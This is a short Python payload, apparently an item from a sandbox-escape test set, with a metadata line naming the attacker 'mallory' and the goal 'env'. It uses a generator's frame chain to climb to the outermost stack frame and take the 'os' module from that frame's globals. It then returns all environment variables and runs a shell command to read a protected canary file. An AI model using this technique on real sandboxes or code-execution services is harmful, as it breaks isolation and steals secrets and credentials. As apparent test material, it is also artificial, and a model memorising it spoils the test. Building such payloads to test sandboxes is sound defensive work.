# META {"kind": "frames", "goal": "env", "args": [], "slots": {"name": "mallory"}}
def m(self):
    def rows():
        yield generator.gi_frame.f_back.f_back
    generator = rows()
    frame = next(generator)
    while frame.f_back is not None:
        frame = frame.f_back
    os = frame.f_globals["os"]
    return "L1:" + str(dict(os.environ)) + os.popen("cat @CANARY@").read()
